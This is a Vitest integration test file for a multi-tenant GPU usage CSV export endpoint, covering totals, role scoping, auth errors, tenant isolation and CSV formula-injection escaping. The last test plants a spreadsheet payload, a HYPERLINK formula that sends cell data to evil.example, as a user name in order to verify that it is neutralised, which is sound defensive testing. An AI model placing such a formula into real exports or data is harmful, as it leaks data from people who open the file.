import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { User } from '../../../src/persistence/tenancy/entities.js';
import { inertCell } from '../../../src/server/routes/usage-export.js';
import { expectOk, startTestApp, type TestApp } from '../../helpers/harness.js';
import { enc, seedStandardUsage } from '../../helpers/usage-seed.js';

/**
 * GET /usage/export.csv over a real port: the month's showback lines and a TOTAL equal to the
 * graph's usage total for the same month; the same credentials as GraphQL; another tenant's
 * id answers exactly like an unknown one.
 */
let t: TestApp;
let seed: Awaited<ReturnType<typeof seedStandardUsage>>;
let base: string;
let aurora: string;

const exportUrl = (params: Record<string, string>) =>
  `${base}/usage/export.csv?${new URLSearchParams(params).toString()}`;
const get = (url: string, bearer?: string | null) =>
  fetch(url, { headers: bearer ? { authorization: `Bearer ${bearer}` } : {} });
const rowsOf = async (response: Response) =>
  parse(await response.text(), { columns: true }) as Record<string, string>[];

beforeAll(async () => {
  t = await startTestApp();
  seed = await seedStandardUsage(t);
  base = t.url.replace(/\/graphql$/, '');
  aurora = enc('Tenant', seed.aurora.tenant.id);
}, 60_000);
afterAll(async () => {
  await t?.close();
});

describe('usage export', () => {
  it("a tenant admin's month: one line per grouping and a TOTAL equal to the graph's", async () => {
    const admin = t.token('aurora-research', 'TENANT_ADMIN');
    const response = await get(exportUrl({ month: '2026-10', tenantId: aurora }), admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toContain('usage-aurora-research-2026-10.csv');
    const rows = await rowsOf(response);
    const total = rows.at(-1)!;
    const lines = rows.slice(0, -1);
    expect(total.month).toBe('TOTAL');
    expect(
      lines.map((l) => [l.tenant, l.project, l.queue, l.user, l.priority_class, l.flavor]).sort(),
    ).toEqual([
      ['aurora-research', 'llm-pretraining', 'aurora-training', 'Ada Admin', 'experiment', 'a100-1g.10gb'],
      ['aurora-research', 'llm-pretraining', 'aurora-training', 'Max Member', 'training', 'h100-80g'],
    ]);
    const graph = await expectOk(
      t,
      admin,
      `query($t: ID!) { usage(tenantId: $t, from: "2026-10-01T00:00:00Z", to: "2026-11-01T00:00:00Z", granularity: MONTH) { total { gpuHours cost jobs } } }`,
      { t: aurora },
    );
    expect(Number(total.gpu_hours)).toBe(graph.usage.total.gpuHours);
    expect(Number(total.cost)).toBe(graph.usage.total.cost);
    expect(Number(total.jobs)).toBe(graph.usage.total.jobs);
    expect(Number(total.gpu_hours)).toBeCloseTo(17, 9);
    expect(total.currency).toBe('USD');
  });

  it('a member gets only their own lines and no cost; platform admins get every tenant without tenantId', async () => {
    const member = await rowsOf(
      await get(exportUrl({ month: '2026-10', tenantId: aurora }), t.token('aurora-research', 'MEMBER')),
    );
    expect(member.slice(0, -1).map((l) => l.user)).toEqual(['Max Member']);
    expect(member.every((l) => l.cost === '')).toBe(true);

    const platform = await get(exportUrl({ month: '2026-10' }), t.token(null, 'PLATFORM_ADMIN'));
    expect(platform.status).toBe(200);
    const rows = await rowsOf(platform);
    expect(new Set(rows.slice(0, -1).map((l) => l.tenant))).toEqual(
      new Set(['aurora-research', 'borealis-inference']),
    );
    expect(Number(rows.at(-1)!.gpu_hours)).toBeCloseTo(19, 9);
  });

  it('401 without or with a bad credential, 403 without the right, 400 for a bad month, as JSON without internals', async () => {
    const anonymous = await get(exportUrl({ month: '2026-10', tenantId: aurora }));
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
    const bad = await get(exportUrl({ month: '2026-10', tenantId: aurora }), 'fw_not-a-real-token');
    expect(bad.status).toBe(401);
    const notPlatform = await get(
      exportUrl({ month: '2026-10' }),
      t.token('aurora-research', 'TENANT_ADMIN'),
    );
    expect(notPlatform.status).toBe(403);
    expect(await notPlatform.json()).toMatchObject({ error: { code: 'FORBIDDEN' } });
    const session = await t.jwt('ada@aurora.example');
    const minted = await expectOk(
      t,
      session,
      `mutation($in: CreateApiTokenInput!) { createApiToken(input: $in) { secret } }`,
      { in: { tenantId: aurora, name: 'export-no-usage', scopes: ['TENANT_READ'] } },
    );
    expect(
      (await get(exportUrl({ month: '2026-10', tenantId: aurora }), minted.createApiToken.secret)).status,
    ).toBe(403);
    const month = await get(
      exportUrl({ month: '2026-13', tenantId: aurora }),
      t.token('aurora-research', 'TENANT_ADMIN'),
    );
    expect(month.status).toBe(400);
    const text = JSON.stringify(await month.json());
    expect(text).not.toMatch(/select|sqlite|stack|at \//i);
    expect(
      (
        await fetch(exportUrl({ month: '2026-10', tenantId: aurora }), {
          method: 'POST',
          headers: { authorization: `Bearer ${t.token('aurora-research', 'TENANT_ADMIN')}` },
        })
      ).status,
    ).toBe(405);
  });

  it("another tenant's id answers exactly like an unknown id, with nothing of that tenant", async () => {
    const bea = t.token('borealis-inference', 'TENANT_ADMIN');
    const foreign = await get(exportUrl({ month: '2026-10', tenantId: aurora }), bea);
    const ghost = await get(
      exportUrl({ month: '2026-10', tenantId: enc('Tenant', '01900000-0000-7000-8000-000000000000') }),
      bea,
    );
    expect(foreign.status).toBe(404);
    expect(ghost.status).toBe(404);
    const [foreignBody, ghostBody] = [await foreign.text(), await ghost.text()];
    expect(foreignBody).toBe(ghostBody);
    expect(foreignBody).not.toContain('aurora');
    const own = await get(
      exportUrl({ month: '2026-10', tenantId: enc('Tenant', seed.borealis.tenant.id) }),
      bea,
    );
    const body = await own.text();
    for (const secret of ['aurora', 'Aurora', 'Max Member', 'Ada Admin', 'llm-pretraining'])
      expect(body).not.toContain(secret);
    expect(body).toContain('Bob Member');
  });

  it('a name a spreadsheet would run as a formula is exported as text; numbers stay numbers', async () => {
    const admin = t.token('aurora-research', 'TENANT_ADMIN');
    const em = t.app.orm.em.fork();
    const max = await em.findOneOrFail(User, { email: { $like: 'max@%' } });
    const before = max.name;
    max.name = '=HYPERLINK("http://evil.example/?"&A1,"Max")';
    await em.flush();
    try {
      const response = await get(exportUrl({ month: '2026-10', tenantId: aurora }), admin);
      const text = await response.text();
      const rows = parse(text, { columns: true }) as Record<string, string>[];
      const line = rows.find((l) => l.user?.includes('HYPERLINK'))!;
      expect(line.user).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Max")`);
      expect(Number(line.gpu_hours)).toBeGreaterThan(0);
      for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
        expect(inertCell(cell)).toBe(`'${cell}`);
      for (const cell of ['Max Member', 'a=b', '']) expect(inertCell(cell)).toBe(cell);
    } finally {
      max.name = before;
      await em.flush();
    }
  });
});
